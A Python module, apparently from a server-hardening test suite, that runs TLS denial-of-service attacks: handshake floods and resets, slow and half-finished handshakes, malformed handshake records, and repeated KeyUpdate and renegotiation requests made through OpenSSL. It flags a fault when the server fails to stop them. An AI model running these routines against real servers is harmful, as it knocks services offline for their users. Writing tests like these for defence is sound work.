# SPDX-License-Identifier: Apache-2.0
"""TLS, used badly. OpenSSL is called itself, since Python's module knows no KeyUpdate."""

import ctypes
import ctypes.util
import ssl

from peers.peer import Peer, connect

from .scene import CUT, HARMLESS, Outcome, attack

SLOW = 50
_FLAT_OUT = 4096
_KEY_UPDATE_REQUESTED = 1
_SET_MAX_PROTOCOL, _TLS_1_2 = 124, 0x0303


def client_hello():
    """The first bytes of a handshake."""
    outgoing = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    session = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attack(HARMLESS)
def client_hellos(scene):
    """Handshakes begin and are reset: each costs the server a signature."""
    hello = client_hello()
    return scene.on_connections(lambda: [hello], until=lambda peer: peer.received > 0)


@attack(CUT)
def handshakes_of_garbage(scene):
    """A record of the handshake holds no handshake."""
    return scene.on_connections(lambda: [b"\x16\x03\x01\x10\x00" + b"\xff" * 4096])


@attack(CUT, patient=True)
def slow_handshakes(scene):
    """Many connections send an octet of a handshake a second."""
    return scene.trickle(client_hello(), SLOW)


@attack(CUT, patient=True)
def handshakes_half_done(scene):
    """Many connections begin a handshake and then say nothing."""
    return scene.trickle(b"", SLOW, greeting=client_hello())


@attack(CUT)
def key_updates(scene):
    """The keys are changed again and again, and the server is to change its own too."""
    return _repeat(scene, lambda library, session: (
        library.SSL_key_update(session, _KEY_UPDATE_REQUESTED), library.SSL_do_handshake(session)))


@attack(CUT)
def renegotiations(scene):
    """A handshake within the connection is asked for again and again (TLS 1.2)."""
    return _repeat(scene, lambda library, session: (
        library.SSL_renegotiate(session), library.SSL_do_handshake(session)), most=_TLS_1_2)


def _repeat(scene, offence, most=0):
    """Makes an offence on connections that have begun TLS, until the server closes each."""
    library, outcome = _openssl(), Outcome(what="handshakes")
    context = library.SSL_CTX_new(library.TLS_client_method())
    if most:
        library.SSL_CTX_ctrl(context, _SET_MAX_PROTOCOL, most, None)
    library.SSL_CTX_set_alpn_protos(context, b"\x02h2", 3)
    while outcome.sent < scene.count and scene.has_time:
        connection = connect(scene.port)
        connection.setblocking(True)
        connection.settimeout(None)
        session = library.SSL_new(context)
        library.SSL_set_fd(session, connection.fileno())
        if library.SSL_connect(session) != 1:
            outcome.faults.append("TLS could not begin")
            break
        before = outcome.sent
        while outcome.sent < scene.count and offence(library, session)[-1] == 1:
            outcome.sent += 1
        outcome.sent += 1
        peer = Peer.of(connection)
        peer.listen(2)
        outcome.add(peer)
        library.SSL_free(session)
        if outcome.sent - before > _FLAT_OUT and peer.closed is None:
            outcome.faults.append("nobody stopped it")
            break
    library.SSL_CTX_free(context)
    return outcome


def _openssl():
    library = ctypes.CDLL(ctypes.util.find_library("ssl"))
    pointer = ctypes.c_void_p
    for name, result, arguments in [
        ("TLS_client_method", pointer, []),
        ("SSL_CTX_new", pointer, [pointer]),
        ("SSL_CTX_ctrl", ctypes.c_long, [pointer, ctypes.c_int, ctypes.c_long, pointer]),
        ("SSL_CTX_set_alpn_protos", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_uint]),
        ("SSL_CTX_free", None, [pointer]),
        ("SSL_new", pointer, [pointer]),
        ("SSL_set_fd", ctypes.c_int, [pointer, ctypes.c_int]),
        ("SSL_connect", ctypes.c_int, [pointer]),
        ("SSL_key_update", ctypes.c_int, [pointer, ctypes.c_int]),
        ("SSL_renegotiate", ctypes.c_int, [pointer]),
        ("SSL_do_handshake", ctypes.c_int, [pointer]),
        ("SSL_free", None, [pointer]),
    ]:
        function = getattr(library, name)
        function.restype, function.argtypes = result, arguments
    return library
